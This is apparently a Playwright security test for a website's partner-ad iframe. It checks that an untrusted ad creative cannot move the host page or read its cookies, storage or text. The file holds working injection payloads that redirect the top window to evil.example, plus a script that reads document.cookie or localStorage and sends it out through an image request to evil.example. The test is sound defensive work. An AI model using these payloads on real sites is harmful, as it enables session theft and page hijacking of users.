/** What an advertisement may do that got into the frame of partners: nothing to the page, its cookies or its place (D29). */
import { PATHS } from '../../protocol/paths.ts'
import { expect, type Page, test } from './fixtures.ts'

const EVIL = 'https://evil.example'

/** Creatives that leave the page, each its own way. */
const LEAVING: Readonly<Record<string, string>> = {
  'a script that moves the top': `<script>top.location = '${EVIL}/top'</script>`,
  'a script that moves the parent': `<script>parent.location.replace('${EVIL}/parent')</script>`,
  'a handler of a picture': `<img src="x:" onerror="top.location = '${EVIL}/img'">`,
  'a handler of a drawing': `<svg onload="top.location = '${EVIL}/svg'"></svg>`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=javascript:top.location='${EVIL}/refresh'">`,
  'a link to the top that presses itself': `<a id="l" href="${EVIL}/link" target="_top">x</a><script>l.click()</script>`,
  'a form to the top': `<form id="f" action="${EVIL}/form" target="_top"></form><script>f.submit()</script>`,
  'a base of the top': `<base href="${EVIL}/" target="_top"><a href="base" autofocus>x</a>`,
  'a frame with a script of its own': `<iframe srcdoc="<script>top.location='${EVIL}/inner'</script>"></iframe>`,
  'a window': `<script>open('${EVIL}/window'); opener && (opener.location = '${EVIL}')</script>`,
}

/** Creatives that look for what is ours; what they find would be in the address of a picture. */
const READING: Readonly<Record<string, string>> = {
  'a cookie': 'document.cookie',
  'the cookie of the page': 'parent.document.cookie',
  'the storage': 'localStorage.getItem("planted")',
  'the storage of the page': 'parent.localStorage.getItem("planted")',
  'the words of the page': 'parent.document.body.textContent',
}

const readingOf = (what: string): string =>
  `<script>let found = 'none'; try { found = ${what} } catch {} new Image().src = '${EVIL}/read?' + found</script>`

/** Puts a creative into the frame, with the headers that the server gives its document. */
const plantCreative = async (page: Page, creative: string): Promise<void> => {
  await page.unroute(`**${PATHS.widget}`)
  await page.route(`**${PATHS.widget}`, async (route) => {
    const response = await route.fetch()
    const html = await response.text()
    await route.fulfill({ response, body: html.replace('<main>', `${creative}<main>`) })
  })
}

test.describe('a creative in the frame of partners', () => {
  test.use({
    expectedConsoleErrors: [
      /404|Content Security Policy|Blocked|sandbox|Refused|ERR_|reading 'waiting'/i,
    ],
    // The frame is answered here and not by the worker, which the page asks for in vain.
    serviceWorkers: 'block',
  })

  test('moves the page nowhere and reads nothing of ours', { tag: '@long' }, async ({ page }) => {
    const asked: string[] = []
    await page.context().route(`${EVIL}/**`, async (route) => {
      asked.push(route.request().url())
      await route.fulfill({ contentType: 'text/html', body: 'evil' })
    })
    const moved: string[] = []
    page.on('framenavigated', (frame) => {
      if (frame === page.mainFrame() && frame.url().startsWith(EVIL)) moved.push(frame.url())
    })
    await page.goto(PATHS.faq)
    await page.evaluate(() => {
      document.cookie = 'planted=planted-cookie; path=/'
      localStorage.setItem('planted', 'planted-storage')
    })
    const creatives = [
      ...Object.values(LEAVING),
      ...Object.values(READING).map((what) => readingOf(what)),
    ]
    for (const creative of creatives) {
      await plantCreative(page, creative)
      await page.goto('/nope')
      const frame = page.frameLocator('iframe')
      await page.locator('iframe').scrollIntoViewIfNeeded()
      await expect(frame.getByText('Оценивайте свои финансовые возможности')).toBeVisible()
      // A turn of the page's own loop: what was to be moved has been.
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)))
      await expect(page.getByText('Увы, такой страницы не существует...')).toBeVisible()
    }
    expect(moved).toEqual([])
    expect(asked).toEqual([])
  })
})
